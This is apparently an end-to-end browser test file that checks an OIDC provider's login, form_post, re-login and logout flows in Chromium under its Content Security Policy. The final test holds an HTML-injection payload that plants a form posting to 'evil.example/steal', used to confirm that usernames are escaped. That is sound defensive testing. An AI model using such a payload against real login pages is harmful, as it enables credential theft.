import * as oidc from 'openid-client';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../support/app.ts';
import { launchChromium } from '../support/chromium.ts';
import { CallbackServer } from '../support/rp-callback.ts';
import { authorizationRequest, exchange, relyingParty, type RelyingParty } from '../support/rp.ts';
import { distinctCodes, RecordingSender } from '../support/sms.ts';

const IVY = { username: 'ivy', password: 'ivys-long-password', phone: '+447400123456' };
const JO = { username: 'jo', password: 'jos-long-password', phone: '+447400654321' };

// Real Chromium against a real Keystep and a real app callback server: what the cookie-jar tests
// cannot see (the CSP, inline script, form-action on redirects) decides whether a login finishes.
describe('logins in Chromium', () => {
  let t: TestApp;
  let app: CallbackServer;
  let rp: RelyingParty;
  let chromium: Browser;
  let page: Page;
  const ids: Record<string, string> = {};
  const sms = new RecordingSender();
  const blocked: string[] = [];

  beforeAll(async () => {
    [chromium, app, t] = await Promise.all([launchChromium(), CallbackServer.start(), startTestApp({ smsSender: sms, random: distinctCodes() })]);
    for (const user of [IVY, JO]) ids[user.username] = await t.addUser(user.username, user.password, user.phone);
    rp = await relyingParty(t, await t.addClient('browser-app', { redirectUris: [app.redirectUri], postLogoutRedirectUris: [`${app.origin}/signed-out`] }));
  });
  afterAll(async () => {
    await chromium?.close();
    await app?.close();
    await t?.close();
  });
  beforeEach(async () => {
    page = await (await chromium.newContext()).newPage();
    blocked.length = 0;
    // A refused form submission or script shows up only on the console.
    page.on('console', (m) => { if (/Content Security Policy/i.test(m.text())) blocked.push(m.text()); });
  });
  afterEach(async () => {
    await page.context().close();
  });

  async function signIn(user: typeof IVY): Promise<void> {
    await page.fill('#username', user.username);
    await page.fill('#password', user.password);
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.waitForSelector('#code');
    await page.fill('#code', sms.lastCode(user.phone));
    await page.getByRole('button', { name: 'Continue' }).click();
  }

  /** The request that reached the app, or a failure naming what the browser refused on the way. */
  async function reachesApp(): Promise<Request> {
    try {
      await page.waitForURL((url) => url.origin === app.origin, { timeout: 10_000 });
    } catch {
      throw new Error(`the browser stopped at ${page.url()} instead of reaching the app; refused: ${blocked.join(' | ') || 'nothing on the console'}`);
    }
    return app.next();
  }

  async function login(user: typeof IVY, params: Record<string, string> = {}) {
    const request = await authorizationRequest(rp, params);
    await page.goto(request.url.toString());
    await signIn(user);
    const response = await reachesApp();
    return { request, response, tokens: await exchange(rp, request, response) };
  }

  it('a normal login reaches the app: form-action allows the redirects after the code form', async () => {
    const { response, tokens } = await login(IVY);
    expect(response.method).toBe('GET');
    expect(tokens.claims()).toMatchObject({ sub: ids.ivy, amr: ['pwd', 'sms', 'mfa'] });
    expect(blocked).toEqual([]);
  });

  it('response_mode=form_post: the auto-submitting page posts the code to the app, which exchanges it', async () => {
    const { response, tokens } = await login(IVY, { response_mode: 'form_post' });
    // openid-client read the code from this POST's body.
    expect(response.method).toBe('POST');
    expect(tokens.claims()!.sub).toBe(ids.ivy);
    expect(blocked).toEqual([]);
  });

  it('prompt=login as another user goes through the provider\'s sign-out page and ends at the app', async () => {
    expect((await login(IVY)).tokens.claims()!.sub).toBe(ids.ivy);
    const { tokens } = await login(JO, { prompt: 'login' });
    expect(tokens.claims()!.sub).toBe(ids.jo);
    expect(blocked).toEqual([]);
  });

  it('the logout confirmation leads to the app\'s post_logout_redirect_uri', async () => {
    const { tokens } = await login(IVY);
    await page.goto(oidc.buildEndSessionUrl(rp.config, { id_token_hint: tokens.id_token!, post_logout_redirect_uri: `${app.origin}/signed-out` }).toString());
    await page.getByRole('button', { name: 'Yes, sign me out' }).click();
    expect(new URL((await reachesApp()).url).pathname).toBe('/signed-out');
    expect(blocked).toEqual([]);
  });

  it('a remembered username is shown escaped: no foreign form in the page', async () => {
    const injected = '"><form action="//evil.example/steal" id="evil"><button>Continue</button></form><input x="';
    await page.goto((await authorizationRequest(rp)).url.toString());
    await page.fill('#username', injected);
    await page.fill('#password', 'not-the-password');
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.waitForSelector('[role="alert"]');
    expect(await page.inputValue('#username')).toBe(injected);
    expect(await page.locator('#evil').count()).toBe(0);
    const actions = await page.evaluate(() => [...document.forms].map((f) => f.action));
    expect(actions.length).toBeGreaterThan(0);
    for (const action of actions) expect(action.startsWith(`${t.issuer}/interaction/`)).toBe(true);
  });
});
